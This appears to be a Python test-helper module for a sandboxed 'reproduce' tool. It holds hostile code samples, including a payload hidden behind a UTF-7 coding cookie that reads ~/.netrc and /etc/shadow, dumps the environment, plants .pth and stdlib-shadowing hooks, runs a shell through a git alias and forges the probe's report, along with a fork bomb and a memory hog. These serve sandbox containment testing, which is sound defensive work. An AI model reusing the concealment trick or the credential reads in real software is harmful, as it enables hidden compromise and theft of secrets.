"""Hostile records for ``python -m tools reproduce``: logs whose code attacks the sandbox and hides from the probe.

Only ever run in bubblewrap (``--sandbox bwrap``): never unsandboxed, where the code would write into the machine it
runs on. Each piece of code records what it managed in ``/out/result.json`` (the output folder, the one place it may
write), so that the tests can check each attempt, not just the verdict.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

from conftest import REPO_ROOT
from helpers.logfactory import LogSpec, write_log
from tools.cli import main

# Hidden by a UTF-7 coding cookie: the static reading and a code diff show one comment line; Python decodes "+AAo-"
# to a line break and runs what follows. The whole file must be valid UTF-7: it holds no other plus sign (string
# joins, not concatenation).
ATTACK = """# -*- coding: utf-7 -*-
\"\"\"A hostile record: each attempt and what came of it goes to /out/result.json.\"\"\"
import json
import os
import site
import socket
import subprocess
import sys

import torch
import torch._inductor.config as config

# settings kept as they are +AAo-config.split_reductions = False

result = {}


def attempt(name, action):
    try:
        result[name] = action()
    except Exception as e:
        result[name] = f"refused: {type(e).__name__}"


def write(path, text="x"):
    with open(path, "a") as f:
        f.write(text)
    return "written"


def read(path):
    with open(path) as f:
        return f.read()


def connect():
    socket.create_connection(("1.1.1.1", 53), timeout=3)
    return "connected"


result["uid"] = [os.getuid(), os.geteuid(), os.getgid()]
result["environ"] = dict(os.environ)
result["root"] = sorted(os.listdir("/"))
attempt("network", connect)
for target in ["/x", "/reproduce/x", "/reproduce/wave.py", "/data/x", "/probe/probe.py", "/etc/x", "/usr/x", "HOST_MARKER"]:
    attempt(f"write {target}", lambda t=target: write(t))
attempt("write torch's config.py", lambda: write(config.__file__, "\\nmax_autotune = True\\n"))
attempt("read the caller's secret file", lambda: read("SECRET_FILE"))
attempt("read ~/.netrc", lambda: read(os.path.expanduser("~/.netrc")))
attempt("read /etc/shadow", lambda: read("/etc/shadow"))

# A standard-library name written where it is imported first.
with open("/tmp/wave.py", "w") as f:
    f.write("import torch._inductor.config as c\\nc.max_fusion_size = 7\\n")
sys.path.insert(0, "/tmp")
import wave  # noqa: E402,F401

# A .pth file and site.addsitedir: its import line runs a module of the folder.
os.makedirs("/tmp/sitehack", exist_ok=True)
with open("/tmp/sitehack/hack.pth", "w") as f:
    f.write("import speedrun_hack\\n")
with open("/tmp/sitehack/speedrun_hack.py", "w") as f:
    f.write("import torch._inductor.config as c\\nc.benchmark_kernel = True\\n")
site.addsitedir("/tmp/sitehack")

# A git alias runs any shell: here one that tries to append to torch's config.py.
shell = "".join(["!sh -c 'echo ran > /tmp/git-shell; echo max_autotune = True >> ", config.__file__, "'"])
git = subprocess.run(["git", "-c", f"alias.x={shell}", "x"], capture_output=True, text=True)
result["git"] = [git.returncode, os.path.exists("/tmp/git-shell")]

# A setting on only while inductor compiles: torch.compile is called outside it, the compilation happens inside.
double = torch.compile(lambda x: (x * 2).sin())
with config.patch(epilogue_fusion=False):
    result["compiled"] = double(torch.ones(8)).tolist()

# The probe's own channel: a forged record.
attempt("write the probe's channel", lambda: write("/probe/report", "SRP1 1 0 1/1 e30= 00\\n"))

with open("/out/result.json", "w") as f:
    json.dump(result, f)
"""

# The limits the kernel enforces, one after the other in one run: a fork bomb (RLIMIT_NPROC), a file larger than the
# file-size limit (RLIMIT_FSIZE), then files until the output folder (a sized tmpfs) is full.
KERNEL_LIMITS = """import json, os, time
result = {}
forked, error = 0, None
for _ in range(3000):
    try:
        pid = os.fork()
    except OSError as e:
        error = e.errno
        break
    if pid == 0:
        time.sleep(120)
        os._exit(0)
    forked += 1
result["forks"] = [forked, error]
try:
    with open("/out/big", "wb") as f:
        f.write(b"x" * (64 * 1024 * 1024))
    result["big"] = "written"
except OSError as e:
    result["big"] = e.errno
os.remove("/out/big")
block = os.urandom(1024 * 1024)
written = 0
try:
    for i in range(256):
        with open(f"/out/fill-{i}", "wb") as f:
            f.write(block)
        written += 1
except OSError as e:
    result["fill"] = [written, e.errno]
os.remove("/out/fill-0")  # room for the result
with open("/out/result.json", "w") as f:
    json.dump(result, f)
"""

SLEEPER = "import time\ntime.sleep(600)\n"

MEMORY_HOG = """import time
hog = []
for _ in range(48):
    hog.append(b"\x01" * (64 * 1024 * 1024))  # touched: resident, not just reserved
    time.sleep(0.05)
time.sleep(60)
"""


def make_data(folder: Path) -> tuple[Path, list[dict[str, Any]]]:
    """Synthetic shards readable by uid 65534, and their data-line entries (name, split, tokens, sha256)."""
    out = subprocess.run(
        [sys.executable, "data/synthetic.py", "--out", str(folder), "--train-shards", "1"]
        + ["--shard-tokens", "65536", "--val-tokens", "16384"],
        cwd=REPO_ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr
    shards = []
    for path in sorted(folder.glob("*.bin")):
        split = "val" if "_val_" in path.name else "train"
        tokens = (path.stat().st_size - 1024) // 2
        shards.append({"name": path.name, "split": split, "tokens": tokens, "sha256": sha256(path)})
    folder.chmod(0o755)
    return folder, shards


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def hostile_log(folder: Path, code: str, shards: list[dict[str, Any]]) -> Path:
    """A smoke log whose source section is ``code`` (it trains nothing: the log's numbers are never reproduced)."""
    return write_log(folder, LogSpec(track="smoke", smi=False, source=code, shards=shards))


def reproduce(log: Path, data: Path, out: Path, *extra: str) -> tuple[int, dict[str, Any], str]:
    """``python -m tools reproduce LOG --sandbox bwrap --json``, in this process: (exit code, verdict, stderr)."""
    stdout, stderr = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        code = main(
            ["reproduce", str(log), "--sandbox", "bwrap", "--data", str(data), "--out", str(out), "--json", *extra]
        )
    lines = [json.loads(line) for line in stdout.getvalue().splitlines() if line.strip()]
    assert len(lines) == 1, stderr.getvalue()[-3000:]
    return code, lines[0], stderr.getvalue()


def found(out: Path, name: str) -> Any:
    """What the hostile code wrote to ``name`` in its (only) output folder."""
    [path] = list(out.glob(f"*/*/{name}"))
    return json.loads(path.read_text())


def processes_of(uid: int) -> set[int]:
    """The processes on this machine whose real uid is ``uid``."""
    pids = set()
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                if os.stat(entry.path).st_uid == uid:
                    pids.add(int(entry.name))
            except OSError:
                continue
    return pids
